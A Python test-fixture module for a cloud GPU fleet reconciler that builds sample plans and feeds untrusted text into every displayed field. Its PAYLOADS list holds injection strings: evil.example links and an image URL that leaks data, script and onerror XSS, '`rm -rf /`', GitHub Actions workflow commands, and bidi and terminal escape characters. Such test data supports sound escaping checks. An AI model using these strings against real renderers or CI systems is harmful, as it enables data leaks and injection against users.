"""One plan with everything in it, and texts of strangers, for the views to show."""

from __future__ import annotations

from dataclasses import replace
from decimal import Decimal
from typing import Any

import builders as b

from reconciler.core.candidates import Candidate
from reconciler.core.diff import Fault, Member
from reconciler.core.drift import Drift
from reconciler.core.importing import Group, groups_of
from reconciler.core.instance import Instance
from reconciler.core.label import Mark
from reconciler.core.model import Fleet, Source
from reconciler.core.moves import Move, Moves, Refusal, Step
from reconciler.core.placement import Choice
from reconciler.core.plan import (
    Cost,
    Create,
    Destroy,
    FleetPlan,
    Held,
    Leak,
    MarketSeen,
    Plan,
    Replace,
    SeatNote,
    Stray,
    Unfilled,
    Wait,
)
from reconciler.core.rises import Rise
from reconciler.core.score import Score
from reconciler.core.shortage import Miss, Relaxation, Shortage
from reconciler.core.states import state_of

NOW = 1795284000.0
"""2026-11-21T18:00:00Z"""
RATE = Decimal("0.25")
SCORE = Score((0.7, 0.5, 1.0, 0.9, 0.25), 0.2, 0.1, 0.932)

PAYLOADS = [
    "[click](https://evil.example)",
    "![x](https://evil.example/?leak=1)",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<!-- hidden",
    "a | b | c",
    "a \\| b",
    "`rm -rf /`",
    "``` fence",
    "a `` b ``` c",
    "@acme/admins please merge",
    "write to bot@evil.example",
    "::error file=app.py::boo",
    "##[add-mask]visible",
    "###[set-output name=x]y",
    "https://evil.example/x",
    "www.evil.example",
    "fixes #1 and GH-1",
    "**bold** _it_ ~~gone~~",
    "&lt;b&gt; &#64;admin",
    "$\\href{https://evil.example}{x}$",
    "# heading",
    "> quote",
    "- [ ] task",
    "\\",
    "trailing \\",
    "line\nbreak\n::warning::x",
    "\x1b[31mred\x07 \u202egpj.exe \u200b",
]
"""What a stranger may write into a text of the market or the account."""


def june(**options: Any) -> Fleet:
    return b.fleet("june-voice", **{"replicas": 3, "source": Source("specs/june-voice.yaml", 2), **options})


def render() -> Fleet:
    return b.fleet("render", replicas=40, source=Source("specs/render.yaml", 1))


def member(at: str, spec: Fleet, **options: object) -> Member:
    shown: Instance = b.instance(at, spec, **options)
    fault = Fault("exited", NOW - 300, 0.0) if options.get("status") == "exited" else None
    return Member(shown, Mark(b.OWNER, b.seat(at), "aaaaaaaa", b.attempt(1)), state_of(shown), (), fault)


def choice(price: str, tier: str | None = None, **options: object) -> Choice:
    return Choice(Candidate(b.offer(price=price, **options), Decimal(price), tier, SCORE, SCORE.total))


def create(**options: object) -> Create:
    said = {
        "seat": b.seat("june-voice/2"),
        "fleet": june(),
        "choice": choice("0.243", "us-west", id=31, machine_id=27924, host_id=1044),
        "ceiling": Decimal("0.25515"),
        "reason": "instance 1719822 was destroyed outside, last seen 02:50",
    }
    return Create(**{**said, **options})  # type: ignore[arg-type]


def exchange(**options: object) -> Replace:
    said = {
        "seat": b.seat("june-voice/0"),
        "fleet": june(),
        "old": member("june-voice/0", june(), id=1720001, price_per_hour="0.243"),
        "choice": choice("0.251", id=32, machine_id=9881, location="Texas, US"),
        "ceiling": Decimal("0.26355"),
        "reason": "container.image a:1 -> a:2",
        "order": "create-first",
        "asked": True,
    }
    return Replace(**{**said, **options})  # type: ignore[arg-type]


def destroy(**options: object) -> Destroy:
    old = member("june-voice/3", june(), id=1720031, price_per_hour="0.301")
    return Destroy(**{"seat": b.seat("june-voice/3"), "old": old, "reason": "replicas 4 -> 3", **options})  # type: ignore[arg-type]


def repair(index: int, seconds: float = 70.0) -> Replace:
    at = f"render/{index}"
    return exchange(
        seat=b.seat(at),
        fleet=render(),
        old=member(at, render(), id=1730000 + index, status="exited"),
        reason=f"instance {1730000 + index} is exited",
        order="destroy-first",
        asked=False,
        wait=Wait("its grace", seconds) if seconds else None,
    )


def shortage(**options: object) -> Shortage:
    miss = Miss("price.max_per_hour", "$0.525/h", Decimal("5"), Decimal("0.525"))
    refused = (("spread.per_host", 15), ("price.max_per_hour", 1))
    ways = (Relaxation("host.min_reliability", "0.94", 7), Relaxation("host.require verified", None, 12))
    return Shortage(**{"seen": 40, "refused": refused, "nearest": miss, "relaxations": ways, **options})  # type: ignore[arg-type]


def unfilled(count: int = 4, **options: object) -> Unfilled:
    return Unfilled(tuple(b.seat(f"render/{36 + n}") for n in range(count)), shortage(**options))


def fleet_plan(spec: Fleet, **options: object) -> FleetPlan:
    return FleetPlan(spec, **{"running": spec.replicas, "live": spec.replicas, "surplus": 0, **options})  # type: ignore[arg-type]


def plan(*fleets: FleetPlan, **options: object) -> Plan:
    return Plan(**{"owner": "default", "account_id": 77, "made_at": NOW, "fleets": fleets, **options})  # type: ignore[arg-type]


def quiet() -> Plan:
    """Everything is as declared."""
    rate = Decimal("0.75")
    return plan(fleet_plan(june()), cost=Cost(rate, rate, rate))


def busy() -> Plan:
    """The plan of the design's example, with everything else a plan can say."""
    held = Held(
        "unasked destroys",
        "3 of 36 instances are to be replaced unasked, at most 1 in one run",
        "--max-destroys 3",
        "render",
        (repair(6, 0), repair(7, 0)),
    )
    notes = (
        SeatNote(b.seat("render/8"), "held", "instance 1730008 was stopped by someone; left alone", Decimal("0.01")),
        SeatNote(b.seat("render/36"), "kept", "instance 1730036 is kept, without an offer to replace it: exited", RATE),
    )
    return plan(
        fleet_plan(june(), live=3, surplus=1, actions=(create(), exchange(), destroy())),
        fleet_plan(
            render(), running=35, live=36, actions=(repair(5),), unfilled=(unfilled(),), held=(held,), notes=notes
        ),
        pruned=(destroy(seat=b.seat("old/0"), old=member("old/0", b.fleet("old"), id=1690000), reason="pruned"),),
        held=(
            Held("policy budget", "the policy's budget is $9.000/h, $9.100/h are committed", "limits.budget_per_hour"),
        ),
        orphans=(Stray(1700001, "default", "lost", Decimal("0.2")), Stray(1700002, "default", "lost", Decimal("0.21"))),
        other_owned=(Stray(1700003, "alice", "june-voice", Decimal("0.3")),),
        unmanaged=(Stray(1700004, None, None, Decimal("0.6")), Stray(1700005, None, None, Decimal("0.01"))),
        leaks=(Leak(1720099, b.seat("render/9"), NOW - 250, Decimal("0.25")),),
        mislabelled=(1700006,),
        rises=(
            Rise(b.seat("render/1"), 1730001, RATE, RATE * 2, NOW + 86_400, NOW + 31 * 86_400),
            Rise(b.seat("render/2"), 1730002, RATE, RATE / 2, NOW + 90_000),
        ),
        cost=Cost(Decimal("7.845"), Decimal("7.795"), Decimal("8.339"), Decimal(9), Decimal(2100)),
        market=MarketSeen(412, 7, 448, 0.91),
        rents_wait_s=130.0,
        problems=("fleet tts: the market could not be searched: 503 Service Unavailable",),
    )


def hostile(text: str) -> Plan:
    """A plan with `text` wherever text of strangers can come from."""
    spec = replace(june(), source=Source(text, 1))
    best = choice("0.2", gpu_name=text, location=text)
    miss = Miss("regions.tiers", text, None, Decimal("0.1"))
    seat = b.seat("june-voice/0")
    rows = fleet_plan(
        spec,
        actions=(
            create(choice=best, reason=text, wait=Wait(text, 5.0)),
            exchange(choice=best, reason=f"container.image {text} -> a:2"),
            destroy(reason=text),
        ),
        unfilled=(unfilled(nearest=miss),),
        held=(Held("suspected reading", text, "--max-destroys 3", "june-voice"),),
        notes=(SeatNote(b.seat("june-voice/1"), "held", text),),
    )
    return plan(rows, problems=(text,), leaks=(Leak(5, seat, NOW, Decimal(1)),))


def group() -> Group:
    """Two alike instances and what a spec says of them."""
    rows = [b.instance(None, id=number) for number in (7, 8)]
    ((found,), ()) = groups_of(rows, frozenset())
    return found


def moves() -> Moves:
    """One instance with a difference, one whose old label is lost, one that is left alone."""
    row = b.instance(None, id=7, label="pool")
    differs = (Drift("container.image", "a:1", "b:1"),)
    one = Move(b.seat("june/0"), row, "pool", b.label("june/0"), differs)
    other = Move(b.seat("june/1"), b.instance("june/1", id=8), b.label("june/1"), None, remembered=False)
    return Moves((one, other), (Refusal(9, "it is managed already, as june/2"), Refusal(10, "full", "raise replicas")))


STEPS = [Step("done", b.seat("june/0"), 7, "adopted"), Step("failed", b.seat("june/1"), 8, "its label is as before")]
